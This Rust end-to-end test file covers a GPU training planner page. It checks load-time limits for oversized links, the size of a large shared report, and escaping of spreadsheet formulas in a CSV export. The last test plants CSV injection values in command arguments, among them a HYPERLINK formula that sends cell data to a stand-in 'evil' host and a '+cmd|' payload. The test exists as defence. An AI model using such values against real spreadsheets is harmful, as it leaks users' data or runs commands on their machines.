//! Links that once froze the page: each is answered, or refused by a bound that it names, within the time that a slow machine has, and
//! the page is there again after a reload.

use e2e::Page;
use serde_json::{Value, json};

use super::embedding::PLAN;

/// What the page may take on a machine four times as slow, by the processor time of this one. Unit: second.
const LIMIT: f64 = 5.0 / 4.0;

/// A plan as hostile as they come.
const DEEP: &str = "#/1?accelerator=H100-SXM&num_layers=4096&hidden_size=8192&num_attention_heads=64&seq_length=4096\
     &max_position_embeddings=4096&micro_batch_size=1&bf16=true&world_size={world}&gpus_per_node=8\
     &pipeline_model_parallel_size={stages}&global_batch_size={batch}&vocab_size=32000";

/// That plan in these sizes.
fn deep(world: u64, stages: u64, batch: u64) -> String {
    let sizes = [("{world}", world), ("{stages}", stages), ("{batch}", batch)];
    sizes.into_iter().fold(DEEP.to_owned(), |link, (name, size)| link.replace(name, &size.to_string()))
}

/// The seconds that the page's own thread has been at work.
fn worked(page: &Page) -> f64 {
    let metrics = page.devtools("Performance.getMetrics", json!({}));
    let all = metrics["metrics"].as_array().into_iter().flatten();
    all.filter(|one| one["name"] == "TaskDuration").find_map(|one| one["value"].as_f64()).expect("a metric")
}

/// The link that carries this JSON (`crates/link/src/pasted.rs`).
fn packed(page: &Page, pasted: &Value) -> String {
    let link = page.js_async(
        "const [text, done] = arguments;
         const stream = new Blob([text]).stream().pipeThrough(new CompressionStream('deflate-raw'));
         new Response(stream).bytes().then((bytes) => done('#z1:' + bytes.toBase64({ alphabet: 'base64url', omitPadding: true })),
             (error) => done(String(error)))",
        &[json!(pasted.to_string())],
    );
    link.as_str().filter(|link| link.starts_with("#z1:")).unwrap_or_else(|| panic!("{link}")).to_owned()
}

#[test]
fn links_that_froze_the_page_are_answered_or_refused() {
    let page = Page::blank();
    page.devtools("Performance.enable", json!({ "timeDomain": "threadTicks" }));
    page.goto("");
    let config = |at: u64| {
        let sizes = format!("\"hidden_size\":{},\"num_hidden_layers\":2", 64 + at % 7);
        json!([format!("f{at}.json"), format!("{{\"model_type\":\"llama\",{sizes},\"x\":\"{at}\"}}")])
    };
    let files: Vec<Value> = (0..20_000).map(|_| json!(["a.sh", "#!/bin/bash\n"])).collect();
    let configs: Vec<Value> = (0..9_000).map(config).collect();
    let settings: serde_json::Map<String, Value> =
        (0..60_000).map(|at| (format!("k{at}"), json!("v"))).collect();
    let script = json!([["", "x"]]);
    let answered = |layout: &'static str| (".verdict", layout);
    let parts = ("#answer", "the limit is 512");
    let refused = |said: &'static str| (".broken-link", said);
    for (name, link, (place, said)) in [
        ("4,096 stages, 16 million samples", deep(4096, 4096, 1 << 24), parts),
        ("1,024 stages", deep(1024, 1024, 8192), parts),
        ("512 stages", deep(512, 512, 4096), answered("PP 512")),
        ("64 stages, 16 million samples", deep(64, 64, 1 << 24), answered("PP 64")),
        ("8 stages, 16 million samples", deep(8, 8, 1 << 24), answered("PP 8")),
        ("262,144 GPUs", deep(1 << 18, 64, 1 << 24), answered("262,144")),
        ("20,000 files", packed(&page, &json!({ "texts": files })), refused("256 are read")),
        ("9,000 configurations", packed(&page, &json!({ "texts": configs })), refused("256 are read")),
        (
            "60,000 settings",
            packed(&page, &json!({ "texts": script, "settings": settings })),
            refused("512 are read"),
        ),
    ] {
        page.js("location.hash = arguments[0]", &[json!(PLAN)]);
        page.wait_text(".verdict", "TP 2, PP 2");
        let before = worked(&page);
        page.js("location.hash = arguments[0]", &[json!(link)]);
        page.wait_text(place, said);
        let took = worked(&page) - before;
        println!("{name}: {took:.2} s");
        assert!(took < LIMIT, "{name}: {took} s");
        page.reload();
        page.wait_text(place, said);
        page.assert_quiet();
    }
}

/// Keeps the next file that the page offers.
fn keep_files(page: &Page) {
    page.js(
        "const make = URL.createObjectURL;
         URL.createObjectURL = (blob) => { window.offered = blob; return make(blob) }",
        &[],
    );
}

/// The text of the file behind a button of the sheet for sharing.
fn offered(page: &Page, label: &str) -> String {
    page.js("delete window.offered", &[]);
    page.click_text("#share button", label);
    page.until(label, || {
        let text = page.js_async(
            "const done = arguments[0];
             if (window.offered) offered.text().then(done, () => done(null)); else done(null)",
            &[],
        );
        text.as_str().map(str::to_owned)
    })
}

/// What a document of a million GPUs may have. Unit: byte.
const MOST_BYTES: usize = 5_000_000;

#[test]
fn a_document_of_a_million_gpus_blocks_nothing() {
    let page = Page::blank();
    page.devtools("Performance.enable", json!({ "timeDomain": "threadTicks" }));
    page.goto(&deep(1 << 20, 16, 1 << 20));
    page.wait_text(".verdict", "1,048,576");
    keep_files(&page);
    page.click_text("button", "Share");
    page.wait_text("#share", "Copy Megatron-LM command");
    let before = worked(&page);
    let text = offered(&page, "Report, JSON");
    let took = worked(&page) - before;
    println!("{} bytes in {took:.2} s", text.len());
    assert!(took < LIMIT, "{took} s");
    assert!((100_000..MOST_BYTES).contains(&text.len()), "{} bytes", text.len());
    let document: Value = serde_json::from_str(&text).expect("JSON");
    assert_eq!(document["report"]["topology"]["world_size"], 1_048_576);
    page.assert_quiet();
}

/// `--tokenizer-model '=HYPERLINK(…)'`: what a script names is a text in the table that a spreadsheet opens.
#[test]
fn a_table_of_settings_runs_nothing() {
    let page = Page::open("");
    page.fill(
        "#script",
        "torchrun --nproc_per_node 8 pretrain_gpt.py --num-layers 2 --hidden-size 64 --num-attention-heads 4 --seq-length 32 \
         --micro-batch-size 1 --bf16 --max-position-embeddings 32 --vocab-size 32000 \
         --tokenizer-model '=HYPERLINK(\"http://evil/?x=\"&A1)' --vocab-file '@SUM(1)' --tokenizer-type '-2+3+cmd|x'",
    );
    page.wait_text(".plan-name", "8 ");
    keep_files(&page);
    page.click_text("button", "Share");
    page.wait_text("#share", "Copy Megatron-LM command");
    let table = page.until("the table of this text", || {
        let table = offered(&page, "Settings, CSV");
        table.contains("HYPERLINK").then_some(table)
    });
    assert!(table.contains(",\"'=HYPERLINK("), "{table}");
    let begins = |sign: char| [format!(",{sign}"), format!("\n{sign}"), format!(",\"{sign}")];
    for part in ['=', '+', '@'].into_iter().flat_map(begins) {
        assert!(!table.contains(&part), "{part:?}: {table}");
    }
}
